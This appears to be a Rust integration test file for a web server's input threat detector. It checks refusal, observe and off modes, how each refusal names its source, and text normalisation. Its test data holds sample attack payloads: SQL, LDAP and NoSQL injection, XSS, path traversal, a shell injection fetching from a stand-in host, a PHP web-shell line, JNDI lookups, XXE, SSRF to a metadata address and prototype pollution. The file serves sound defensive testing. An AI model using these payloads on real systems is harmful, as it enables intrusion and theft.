//! Attacks in what handlers would read: refused by field, observed where so configured; and clean text in one form.

use http::Method;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use server::config::Config;
use threat::Class;
use utoipa::{IntoParams, ToSchema};
use web::{Body, QueryOf, Routes, reply, route};

use crate::{app::TestApp, client::Client};

const SQL: &str = "7' or 3 > 2 --";
const RECIPE: &str = "Run `rm -rf build; make` first.";

#[derive(Deserialize, Serialize, ToSchema)]
#[serde(deny_unknown_fields)]
struct Fields {
    undeclared: Option<String>,
    #[schema(format = "markdown")]
    markdown: Option<String>,
    #[schema(format = "name")]
    name: Option<String>,
    #[schema(format = "opaque")]
    secret: Option<String>,
    list: Option<Vec<Value>>,
}

#[derive(Deserialize, Serialize, IntoParams)]
#[serde(deny_unknown_fields)]
struct Asked {
    #[param(format = "name")]
    q: Option<String>,
    #[param(format = "opaque")]
    cursor: Option<String>,
}

/// Routes that answer what they were sent.
fn echo() -> Routes {
    let body = async |Body(fields): Body<Fields>| reply(fields);
    let query = async |QueryOf(asked): QueryOf<Asked>| reply(asked);
    Routes::new("tests")
        .add(route(Method::POST, "/echo").public().body::<Fields>().handler(body))
        .add(route(Method::GET, "/echo/{id}").public().query::<Asked>().handler(query))
        .state(())
}

async fn start(change: impl FnOnce(&mut Config)) -> TestApp {
    TestApp::start_with(change, echo()).await
}

/// How often each reason stands in the security log.
async fn counted(app: &TestApp) -> Value {
    app.app.log.flush().await.unwrap();
    app.admin().await.get("/security").await.expect(200)["refusals"].clone()
}

/// A request for each detector that looks at routes of ours; uploads come to the probe alone.
fn attacks(client: &Client) -> Vec<(Class, http::Request<axum::body::Body>)> {
    let post =
        |value: &str| client.request_with(Method::POST, "/echo", json!({"undeclared": value}).to_string());
    let get = |target: &str| client.request(Method::GET, target);
    let mut escape = get("/echo/1");
    escape.headers_mut().insert("cookie", "a=%1b%5b2J%1b%5d0;t%07".parse().unwrap());
    vec![
        (Class::Control, escape),
        (Class::Sql, post(SQL)),
        (Class::Html, post("<script>steal()</script>")),
        (Class::Path, post("../../../notes/private")),
        (Class::Shell, post("a; wget http://a.example/b")),
        (Class::Code, post("<?php system($_GET['a']); ?>")),
        (Class::Template, post("{{7*7}}")),
        (Class::Jndi, post("${jndi:dns:a}")),
        (Class::NoSql, client.request_with(Method::POST, "/echo", r#"{"undeclared":{"$ne":"1"}}"#)),
        (Class::Ldap, post("*)(uid=*))(|(uid=*")),
        (Class::Xml, post("<!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]><a>&b;</a>")),
        (Class::Line, post("a\nSet-Cookie: b=c")),
        (Class::Ssrf, post("http://169.254.169.254/latest/meta-data/")),
        (Class::Prototype, client.request_with(Method::POST, "/echo", r#"{"__proto__":{"admin":true}}"#)),
    ]
}

#[tokio::test]
async fn every_detector_refuses() {
    // Whoever tries them all is blocked before the last.
    let app = start(|config| config.gate.blocks.automatic = gate::Automatic::Off).await;
    let guest = app.guest();
    let attacks = attacks(&guest);
    let classes: Vec<Class> = attacks.iter().map(|(class, _)| *class).collect();
    for (class, request) in attacks {
        let told = guest.send(request).await.refused(403, "THREAT_DETECTED");
        assert!(!told.to_string().contains(&format!("{}.", class.as_str())), "{told}");
    }
    let refusals = counted(&app).await.to_string();
    for class in classes {
        assert!(refusals.contains(&format!("threat_{}", class.as_str())), "{class:?}: {refusals}");
    }
}

#[tokio::test]
async fn a_detector_can_be_off_or_observe() {
    for class in [Class::Sql, Class::Ldap, Class::Jndi] {
        let app = start(|config| {
            config.gate.detection.off.0 = vec![class];
            config.gate.blocks.automatic = gate::Automatic::Off;
        })
        .await;
        let guest = app.guest();
        for (other, request) in attacks(&guest) {
            let status = guest.send(request).await.status.as_u16();
            assert_eq!(status == 403, other != class, "{class:?} is off: {other:?} is answered {status}");
        }
    }
    let app = start(|config| config.gate.detection.observe.0 = vec![Class::Sql]).await;
    app.guest().post("/echo", &json!({"undeclared": SQL})).await.expect(200);
    let refusals = counted(&app).await.to_string();
    assert!(refusals.contains("observed_sql") && !refusals.contains("threat_sql"), "{refusals}");
}

#[tokio::test]
async fn a_route_can_observe() {
    let app = start(|config| config.gate.detection.observe_routes = vec!["POST /api/v1/echo".into()]).await;
    app.guest().post("/echo", &json!({"undeclared": SQL})).await.expect(200);
    app.guest().get("/echo/1?q=7%27+or+3+%3E+2+--").await.refused(403, "THREAT_DETECTED");
    let refusals = counted(&app).await.to_string();
    assert!(refusals.contains("observed_sql") && refusals.contains("threat_sql"), "{refusals}");
}

#[tokio::test]
async fn an_attack_is_named_by_its_place() {
    let app = start(|_| {}).await;
    let guest = app.guest();
    let mut cases = vec![
        (
            guest.request_with(Method::POST, "/echo", json!({"list": [{"a": SQL}]}).to_string()),
            "body",
            "list[0].a",
        ),
        (guest.request(Method::GET, "/echo/1?q=7%27+or+3+%3E+2+--"), "query", "q"),
        (guest.request(Method::GET, "/echo/1?7%27+or+3+%3E+2+--"), "query", ""),
        (guest.request(Method::GET, "/echo/7%27%20or%203%20%3E%202%20--"), "path", "id"),
        (guest.request(Method::GET, "/no/route/7%27%20or%203%20%3E%202%20--"), "path", ""),
    ];
    for (name, part) in [
        ("user-agent", "header"),
        ("x-forwarded-host", "header"),
        ("referer", "header"),
        ("cookie", "cookie"),
    ] {
        let mut request = guest.request(Method::GET, "/echo/1");
        request.headers_mut().insert(name, "a=${jndi:dns:a}".parse().unwrap());
        cases.push((request, part, if name == "cookie" { "a" } else { name }));
    }
    for (request, part, field) in cases {
        let what = format!("{request:?}");
        let told = guest.send(request).await.refused(403, "THREAT_DETECTED");
        assert_eq!(told["details"], json!({"part": part, "field": field}), "{what}");
    }
}

#[tokio::test]
async fn a_field_gets_the_reading_of_its_kind() {
    let app = start(|_| {}).await;
    let send = async |field: &str, text: &str| app.guest().post("/echo", &json!({ field: text })).await;
    send("undeclared", RECIPE).await.refused(403, "THREAT_DETECTED");
    assert_eq!(send("markdown", RECIPE).await.expect(200)["markdown"], RECIPE);
    assert_eq!(send("secret", SQL).await.expect(200)["secret"], SQL);
    send("markdown", "[x](javascript:steal()) <script>steal()</script>")
        .await
        .refused(403, "THREAT_DETECTED");
    // Whatever somebody chooses as a password.
    let account =
        json!({"email": "quotes@test.example", "password": "' or 1=1 -- <script>alert(1)</script>"});
    app.guest().post("/auth/signup", &account).await.expect(201);
    app.guest().post("/auth/login", &account).await.expect(200);
}

#[tokio::test]
async fn a_handler_reads_text_in_one_form() {
    let app = start(|_| {}).await;
    let sent = json!({"name": " Ze\u{301}\u{202e}lie\nB. ", "markdown": "a\r\n\tb\u{200b}\u{7}\n", "secret": " e\u{301}\u{202e} "});
    let got = app.guest().post("/echo", &sent).await.expect(200);
    assert_eq!(
        (&got["name"], &got["markdown"], &got["secret"]),
        (&json!("Zélie B."), &json!("a\n\tb"), &sent["secret"])
    );
    let got = app.guest().get("/echo/1?q=+e%CC%81%E2%80%AE&cursor=+e%CC%81").await.expect(200);
    assert_eq!(got, json!({"q": "é", "cursor": " e\u{301}"}));
    // What is taken away puts nothing together.
    let split = json!({"undeclared": "<scr\u{200b}ipt>steal()</scr\u{200b}ipt>"});
    app.guest().post("/echo", &split).await.refused(403, "THREAT_DETECTED");
    // Nor does it open a second way to guess at an account.
    let email = |email: &str| json!({"email": email, "password": "one guess too many, sorry"});
    let app = start(|config| config.gate.limits.sign_in.per_account = 2).await;
    app.guest().post("/auth/login", &email("a@test.example")).await.refused(401, "CREDENTIALS_INVALID");
    app.guest()
        .post("/auth/login", &email("a\u{200b}@test.example"))
        .await
        .refused(401, "CREDENTIALS_INVALID");
    app.guest().post("/auth/login", &email("\u{feff}a@test.example")).await.refused(429, "RATE_LIMITED");
}

#[tokio::test]
async fn what_is_repeated_is_compared_as_it_came() {
    let app = start(|_| {}).await;
    let user = app.user().await;
    let chart = |name: &str| {
        let mut body = crate::astrology::birth();
        body["name"] = name.into();
        body
    };
    let first = user.post_with_key("/charts", &chart("Ada"), "one").await.expect(201);
    assert_eq!(user.post_with_key("/charts", &chart("Ada"), "one").await.expect(201)["id"], first["id"]);
    user.post_with_key("/charts", &chart(" Ada"), "one").await.refused(422, "IDEMPOTENCY_KEY_REUSED");
}

#[tokio::test]
async fn a_route_that_is_not_there_stops_the_start() {
    let database = testkit::database().await;
    let mut config: Config = base::config::load(server::config::DEFAULTS, None).unwrap();
    config.gate.detection.observe_routes = vec!["POST /api/v1/chart".into()];
    config.secrets.metrics_token = "x".into();
    let installation = server::installation::Installation {
        database: database.open(testkit::clocks(testkit::START)),
        default_tenant: database.tenant(),
        keys: vec![database.master_key()],
        cluster: None,
    };
    let error = server::app::App::wire(&config, &installation).await.err().unwrap().to_string();
    assert!(error.contains("observe_routes") && error.contains("POST /api/v1/chart"), "{error}");
}

#[tokio::test]
async fn security_tells_admins_what_refuses() {
    let change = |config: &mut Config| {
        config.gate.detection.observe.0 = vec![Class::Sql];
        config.gate.detection.off.0 = vec![Class::Ldap];
        config.gate.detection.observe_routes = vec!["POST /api/v1/echo".into()];
    };
    let app = start(change).await;
    let public = app.guest().get("/security").await.expect(200);
    assert_eq!(public["detectors"][1], json!({"name": "sql"}));
    assert!(public.get("observed_routes").is_none());
    let told = app.admin().await.get("/security").await.expect(200);
    let modes = told["detectors"].as_array().unwrap();
    assert_eq!(modes.len(), Class::ALL.len());
    for (name, mode) in [("sql", "observes"), ("ldap", "off"), ("html", "refuses")] {
        assert!(modes.contains(&json!({"name": name, "mode": mode})), "{told}");
    }
    assert_eq!(told["observed_routes"], json!(["POST /api/v1/echo"]));
}
